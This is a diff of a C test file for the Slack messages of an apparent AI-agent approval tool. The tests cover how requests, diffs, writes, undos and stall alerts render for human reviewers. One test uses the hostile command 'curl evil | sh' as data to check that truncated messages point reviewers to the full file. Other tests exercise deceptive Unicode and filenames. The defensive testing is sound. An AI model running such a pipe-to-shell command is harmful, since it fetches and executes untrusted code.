@@ -1,5 +1,6 @@
 /* slack_text and slack_blocks: what messages look like, without a process and without rows. */
 #include "slack_limits.h"
+#include "suite.h"
 
 #include <check.h>
 #include <stdlib.h>
@@ -141,7 +142,7 @@ START_TEST(an_approval_shows_title_risk_file_diff_and_buttons)
 	holds(json, "\"action_id\":\"approve_reject\"");
 	holds(json, "\"value\":\"0190aaaa-0000-7000-8000-000000000001\"");
 	holds(json, "expires <!date^1767261600^{date_short_pretty} {time}|2026-01-01 10:00 UTC>");
-	holds(json, "session `0190bbbb` · claude · billing");
+	holds(json, "id `0190aaaa-0000` · session `0190bbbb-0000` · claude · billing");
 }
 END_TEST
 
@@ -153,7 +154,8 @@ START_TEST(the_notification_begins_with_the_deed)
 
 	slack_say_ask(&a, &s);
 	ck_assert_str_eq(str_text(&s.text),
-	                 "Approval needed: Fix the tokenizer (src/main.c, +1 −1, low risk)");
+	                 "Approval needed in billing (claude): Fix the tokenizer (src/main.c, +1 "
+	                 "−1, low risk)");
 }
 END_TEST
 
@@ -215,6 +217,7 @@ static void touches(struct request *r, const char *const *paths, size_t count)
 	r->file_count = count;
 	for (size_t i = 0; i < count; i++) {
 		r->files[i].path = xstrdup(paths[i]);
+		r->files[i].target = xstrdup(paths[i]);
 		r->files[i].action = touched_action("modify");
 	}
 }
@@ -225,14 +228,116 @@ START_TEST(a_diff_says_every_path_that_it_touches)
 	OWNED(request) struct request r = a_clearance();
 
 	touches(&r, PATHS, COUNT(PATHS));
+	r.files[1].action = r.files[3].action = touched_action("delete");
+	r.files[2].action = touched_action("create");
+	r.files[1].other = xstrdup("new name");
+	r.files[2].other = xstrdup("old name");
+	r.files[2].mode = 0100755;
 	str_add(&r.body, "diff --git a/old name b/new name\nsimilarity index 100%\n"
 	                 "rename from old name\nrename to new name\n"
 	                 "diff --git a/gone.c b/gone.c\ndeleted file mode 100644\n--- "
 	                 "a/gone.c\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n");
 	OWNED(char_ptr) char *json = asked(&r, NOBODY);
 	holds(json, "also touches:");
-	holds(json, "\\nold name\\nnew name\\ngone.c");
+	holds(json, "\\nrename old name to new name (mode 755)\\ndelete gone.c");
+	holds(json, "\"modify src/main.c\"");
 	holds(json, " (+1 −2)");
+	OWNED(slack_said) struct slack_said plain = SLACK_SAID_INIT;
+	slack_say_plain(&r, &plain);
+	holds(str_text(&plain.text),
+	      "(modify src/main.c;rename old name to new name (mode 755);delete gone.c, +1 −2");
+}
+END_TEST
+
+/* Lines of a command, or of anything. */
+static void add_lines(struct str *text, int count)
+{
+	for (int i = 0; i < count; i++)
+		str_addf(text, "echo %d\n", i);
+}
+
+START_TEST(a_long_command_shows_its_beginning_and_says_where_the_rest_is)
+{
+	OWNED(request) struct request r = a_clearance();
+	OWNED(str) struct str whole = STR_INIT;
+
+	set(&r.kind, "permission");
+	set(&r.file_path, NULL);
+	str_reset(&r.body);
+	add_lines(&r.body, SLACK_INLINE_LINES);
+	ck_assert(slack_is_whole(&r));
+	OWNED(char_ptr) char *fits = asked(&r, NOBODY);
+	lacks(fits, "in the file");
+	str_add(&r.body, "curl evil | sh\n");
+	ck_assert(!slack_is_whole(&r));
+	OWNED(char_ptr) char *cut = asked(&r, NOBODY);
+	holds(cut, "📎 20 of 21 lines shown; the rest is in the file above");
+	lacks(cut, "curl evil");
+	slack_add_file(&whole, &r);
+	holds(whole.bytes, "curl evil | sh");
+	str_reset(&r.body);
+	str_add(&r.body, "echo ");
+	for (int i = 0; i < 600; i++)
+		str_add(&r.body, "12345 ");
+	OWNED(char_ptr) char *one = asked(&r, NOBODY);
+	holds(one, "📎 0 of 1 lines shown; the rest is in the file above");
+}
+END_TEST
+
+START_TEST(what_slack_did_not_take_is_not_approved_there)
+{
+	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;
+	OWNED(request) struct request r = a_clearance();
+	struct slack_ask a = { .request = &r, .mentions = NOBODY, .diff_missing = true };
+
+	add_lines(&r.body, 100);
+	slack_say_ask(&a, &s);
+	OWNED(char_ptr) char *json = said(&s);
+	holds(json, "lines that Slack did not take");
+	lacks(json, "approve_accept");
+	holds(json, "approve_reject");
+}
+END_TEST
+
+START_TEST(a_description_that_is_cut_goes_on_in_the_file)
+{
+	OWNED(request) struct request r = a_clearance();
+	OWNED(str) struct str words = STR_INIT;
+	OWNED(str) struct str file = STR_INIT;
+
+	add_lines(&words, 500);
+	set(&r.description, words.bytes);
+	OWNED(char_ptr) char *json = asked(&r, NOBODY);
+	holds(json, "📎 all of the description is in the file above");
+	slack_add_file(&file, &r);
+	holds(file.bytes, "Fix the tokenizer\n\necho 0\n");
+	holds(file.bytes, "echo 499\n");
+	holds(file.bytes, "+c\n");
+}
+END_TEST
+
+START_TEST(the_file_of_a_long_diff_is_marked_like_the_message)
+{
+	OWNED(request) struct request r = a_clearance();
+	OWNED(str) struct str file = STR_INIT;
+
+	add_lines(&r.body, 30);
+	str_addf(&r.body, "+a\xE2\x80\xAE%*s;\n", 100, "");
+	slack_add_file(&file, &r);
+	holds(file.bytes, "+a\\u{202E}[100 blanks];\n");
+}
+END_TEST
+
+START_TEST(a_name_that_stands_for_another_file_shows_both)
+{
+	static const char *const PATHS[] = { "src/main.c" };
+	OWNED(request) struct request r = a_clearance();
+
+	touches(&r, PATHS, COUNT(PATHS));
+	free(r.files[0].target);
+	r.files[0].target = xstrdup("src/auth.c ");
+	OWNED(char_ptr) char *json = asked(&r, NOBODY);
+	holds(json, "modify src/main.c → src/auth.c\\\\u{20}");
 }
 END_TEST
 
@@ -310,7 +415,7 @@ START_TEST(hostile_questions_stay_within_every_limit)
 }
 END_TEST
 
-START_TEST(after_the_answer_the_buttons_are_one_line_that_names_who_decided_what_and_when)
+START_TEST(after_the_answer_the_verdict_is_on_top_and_names_who_decided_what_and_when)
 {
 	OWNED(request) struct request r = a_clearance();
 
@@ -321,8 +426,10 @@ START_TEST(after_the_answer_the_buttons_are_one_line_that_names_who_decided_what
 	set(&r.reason, "no <tests>");
 	OWNED(char_ptr) char *json = asked(&r, NOBODY);
 	lacks(json, "\"type\":\"actions\"");
-	holds(json, "❌ *Rejected* by <@U01OP>, <!date^1767259800^{date_short_pretty} {time}|"
-	            "2026-01-01 09:30 UTC>: no &lt;tests&gt;");
+	holds(json,
+	      "[{\"type\":\"section\",\"text\":{\"type\":\"mrkdwn\",\"text\":\"❌ *Rejected* by "
+	      "<@U01OP>, <!date^1767259800^{date_short_pretty} {time}|2026-01-01 09:30 UTC>: no "
+	      "&lt;tests&gt;\\n🟢 *Approval* · low risk");
 
 	set(&r.state, "approved");
 	set(&r.decision, "approve");
@@ -331,12 +438,27 @@ START_TEST(after_the_answer_the_buttons_are_one_line_that_names_who_decided_what
 	OWNED(char_ptr) char *approved = asked(&r, NOBODY);
 	holds(approved, "✅ *Approved* by ann at the terminal, ");
 	holds(approved, "🟢 *Approval* · low risk");
+	set(&r.instruction, "rename it, too");
+	OWNED(char_ptr) char *noted = asked(&r, NOBODY);
+	holds(noted, ", and told: rename it, too");
+	set(&r.instruction, NULL);
 
 	set(&r.state, "expired");
 	set(&r.decision, "timeout");
 	OWNED(char_ptr) char *expired = asked(&r, NOBODY);
 	holds(expired, "⏰ *Expired*: nobody answered in time, ");
 	lacks(expired, "at the terminal");
+}
+END_TEST
+
+START_TEST(who_was_not_answered_in_time_is_named)
+{
+	OWNED(request) struct request r = a_clearance();
+	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;
+
+	slack_say_expired(&r, &s);
+	ck_assert_str_eq(str_text(&s.text),
+	                 "⏰ Nobody answered in time in billing (claude): Fix the tokenizer");
 }
 END_TEST
 
@@ -362,7 +484,7 @@ START_TEST(prompts_and_standbys_have_their_buttons)
 	str_reset(&r.body);
 	str_add(&r.body, "Go <on>?");
 	OWNED(char_ptr) char *prompt = asked(&r, NOBODY);
-	holds(prompt, "*Error Recovery Prompt*");
+	holds(prompt, "⚠️ *Error Recovery Prompt*");
 	holds(prompt, "\"Go <on>?\"");
 	holds(prompt, "elapsed 12 min · 47 actions");
 	holds(prompt, "\"block_id\":\"prompt_0190aaaa");
@@ -391,21 +513,62 @@ START_TEST(a_write_is_told_with_its_files)
 	slack_say_write(&w, &s);
 	OWNED(char_ptr) char *json = said(&s);
 	holds(json, "✅ Changes applied to a&lt;b&gt;.c (1247 bytes written)");
+	lacks(json, "write_undo");
 	slack_said_clear(&s);
 
+	w.request_id = "r-1";
+	slack_say_write(&w, &s);
+	OWNED(char_ptr) char *undoable = said(&s);
+	holds(undoable, "\"action_id\":\"write_undo\"");
+	holds(undoable, "\"value\":\"r-1\"");
+	slack_said_clear(&s);
+
+	w.undone = true;
+	slack_say_write(&w, &s);
+	OWNED(char_ptr) char *undone = said(&s);
+	holds(undone, "(undone since)");
+	lacks(undone, "write_undo");
+	slack_said_clear(&s);
+	w.undone = false;
+	w.request_id = NULL;
+
 	w.forced = true;
+	w.request_id = "0190aaaa";
+	(void)cJSON_AddNumberToObject(cJSON_GetArrayItem(files, 0), "overwrote", 16);
 	slack_say_write(&w, &s);
 	OWNED(char_ptr) char *forced = said(&s);
 	holds(forced, "⚠️ Changes applied by force");
+	holds(forced, "(1247 bytes written), over 16 bytes that nobody had seen");
+	holds(forced, "`agent-intercom-ctl undo 0190aaaa` brings it back");
 	slack_said_clear(&s);
 
 	w = (struct slack_write){ .state = "refused",
 		                  .file_path = "a.c",
 		                  .error_code = "patch_conflict",
-		                  .error_message = "line 3" };
+		                  .error_message =
+		                      "line 3, 0123456789abcdef0123456789abcdef0123456789abcdef"
+		                      "0123456789abcdef" };
 	slack_say_write(&w, &s);
 	OWNED(char_ptr) char *refused = said(&s);
-	holds(refused, "⚠️ Not written: a.c: line 3");
+	holds(refused, "⚠️ Not written: a.c: line 3, 01234567…\"");
+	slack_said_clear(&s);
+
+	w = (struct slack_write){ .state = "undone",
+		                  .is_undo = true,
+		                  .ordered_by = "slack:T1:U01OP",
+		                  .request_id = "r-1",
+		                  .file_path = "a.c" };
+	slack_say_write(&w, &s);
+	OWNED(char_ptr) char *back = said(&s);
+	holds(back, "↩️ Undone by <@U01OP>: what was there before is back: a.c");
+	lacks(back, "write_undo");
+	slack_said_clear(&s);
+
+	w.state = "refused";
+	w.error_message = "it was changed since";
+	slack_say_write(&w, &s);
+	OWNED(char_ptr) char *kept = said(&s);
+	holds(kept, "⚠️ Not undone, as ordered by <@U01OP>: a.c: it was changed since");
 	cJSON_Delete(files);
 }
 END_TEST
@@ -489,7 +652,7 @@ END_TEST
 START_TEST(a_session_says_where_it_works_and_how_it_is)
 {
 	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;
-	struct slack_session session = { .id = "0190bbbb-1",
+	struct slack_session session = { .id = "0190bbbb-0000-1",
 		                         .status = "active",
 		                         .mode = "hybrid",
 		                         .protocol_mode = "mcp",
@@ -501,14 +664,14 @@ START_TEST(a_session_says_where_it_works_and_how_it_is)
 
 	slack_say_session(&session, &s);
 	OWNED(char_ptr) char *json = said(&s);
-	holds(json, "🚀 *Session started* `0190bbbb`");
+	holds(json, "🚀 *Session started* `0190bbbb-0000`");
 	holds(json, "🟢 active · MCP · claude · hybrid mode · /home/op/&lt;billing&gt;");
 	holds(json, "do <this>");
 	slack_said_clear(&s);
 	session.status = "terminated";
 	slack_say_ended(&session, &s);
 	OWNED(char_ptr) char *ended = said(&s);
-	holds(ended, "🏁 *Session ended* `0190bbbb` · terminated · 1 h 2 min");
+	holds(ended, "🏁 *Session ended* `0190bbbb-0000` · terminated · 1 h 2 min");
 }
 END_TEST
 
@@ -519,15 +682,41 @@ START_TEST(a_stall_alert_has_its_buttons)
 	struct slack_stall stall = { .alert_id = "0190cccc",
 		                     .session_id = "0190bbbb",
 		                     .last_tool = "ping",
+		                     .client_name = "claude",
+		                     .workspace_root = "/home/op/billing",
 		                     .idle_seconds = 300 };
 
 	slack_say_stall(&stall, OPERATORS, &s);
+	ck_assert_str_eq(str_text(&s.text),
+	                 "⚠️ Your agent is silent for 5 min in billing (claude)");
 	OWNED(char_ptr) char *json = said(&s);
 	holds(json, "<@U01OP> ⚠️ *Agent stalled*: session `0190bbbb`, idle for 5 min");
 	holds(json, "\"block_id\":\"stall_0190cccc\"");
 	holds(json, "\"action_id\":\"stall_nudge\"");
 	holds(json, "\"action_id\":\"stall_nudge_instruct\"");
 	holds(json, "\"action_id\":\"stall_stop\"");
+}
+END_TEST
+
+START_TEST(what_is_asked_back_has_two_buttons_until_it_is_answered)
+{
+	OWNED(slack_said) struct slack_said s = SLACK_SAID_INIT;
+
+	slack_say_asked("Approve it as it is, and tell the agent: <b>?", NULL, "17", &s);
+	OWNED(char_ptr) char *open = said(&s);
+	holds(open, "tell the agent: &lt;b&gt;?");
+	holds(open, "\"action_id\":\"tell_approve\",\"text\":{\"type\":\"plain_text\",\"text\":"
+	            "\"Approve and tell\"");
+	holds(open, "\"action_id\":\"tell_reject\"");
+	holds(open, "\"value\":\"17\"");
+	slack_said_clear(&s);
+	slack_say_asked("Approve it?",
+	                "already approved by slack:T1:U01OP at "
+	                "2026-01-01T09:30:00.000Z",
+	                "17", &s);
+	OWNED(char_ptr) char *answered = said(&s);
+	holds(answered, "already approved by <@U01OP> at <!date^1767259800^");
+	lacks(answered, "tell_approve");
 }
 END_TEST
 
@@ -552,6 +741,7 @@ START_TEST(a_modal_has_the_ids_that_answers_are_read_by)
 		holds(json, "\"block_id\":\"instruction_block\"");
 		holds(json, "\"action_id\":\"instruction_text\"");
 		holds(json, "\"private_metadata\":\"7\"");
+		holds(json, i == 0 ? "\"optional\":true" : "\"optional\":false");
 		lacks(json, "initial_value");
 		cJSON_Delete(modal);
 	}
@@ -599,8 +789,6 @@ int main(void)
 {
 	Suite *s = suite_create("slack_blocks");
 	TCase *c = tcase_create("slack_blocks");
-	SRunner *r;
-	int failed;
 
 	tcase_add_test(c, only_three_characters_are_escaped_and_only_once);
 	tcase_add_test(c, a_cut_hurts_no_character_no_entity_and_no_accent);
@@ -612,12 +800,18 @@ int main(void)
 	tcase_add_test(c, a_diff_is_inline_up_to_20_lines_and_2500_characters);
 	tcase_add_test(c, a_diff_whose_hidden_characters_do_not_fit_is_a_snippet);
 	tcase_add_test(c, a_diff_says_every_path_that_it_touches);
+	tcase_add_test(c, a_long_command_shows_its_beginning_and_says_where_the_rest_is);
+	tcase_add_test(c, what_slack_did_not_take_is_not_approved_there);
+	tcase_add_test(c, a_description_that_is_cut_goes_on_in_the_file);
+	tcase_add_test(c, the_file_of_a_long_diff_is_marked_like_the_message);
+	tcase_add_test(c, a_name_that_stands_for_another_file_shows_both);
 	tcase_add_test(c, the_file_of_a_change_is_there_to_be_shown_unless_it_is_new);
 	tcase_add_test(c, what_replaces_a_whole_file_is_shown_as_the_computed_diff);
 	tcase_add_test(c, hostile_diffs_stand_in_the_message_as_they_are);
 	tcase_add_test(c, hostile_questions_stay_within_every_limit);
-	tcase_add_test(
-	    c, after_the_answer_the_buttons_are_one_line_that_names_who_decided_what_and_when);
+	tcase_add_test(c,
+	               after_the_answer_the_verdict_is_on_top_and_names_who_decided_what_and_when);
+	tcase_add_test(c, who_was_not_answered_in_time_is_named);
 	tcase_add_test(c, an_interrupted_question_keeps_its_buttons);
 	tcase_add_test(c, prompts_and_standbys_have_their_buttons);
 	tcase_add_test(c, a_write_is_told_with_its_files);
@@ -628,14 +822,11 @@ int main(void)
 	tcase_add_test(c, an_empty_text_is_said_to_be_one);
 	tcase_add_test(c, a_session_says_where_it_works_and_how_it_is);
 	tcase_add_test(c, a_stall_alert_has_its_buttons);
+	tcase_add_test(c, what_is_asked_back_has_two_buttons_until_it_is_answered);
 	tcase_add_test(c, a_modal_has_the_ids_that_answers_are_read_by);
 	tcase_add_test(c, a_refine_modal_is_filled_in_as_far_as_it_holds);
 	tcase_add_test(c, a_snippet_is_named_after_its_file);
 	tcase_add_test(c, the_last_resort_says_what_to_type);
 	suite_add_tcase(s, c);
-	r = srunner_create(s);
-	srunner_run_all(r, CK_ENV);
-	failed = srunner_ntests_failed(r);
-	srunner_free(r);
-	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
+	return run_suite(s);
 }
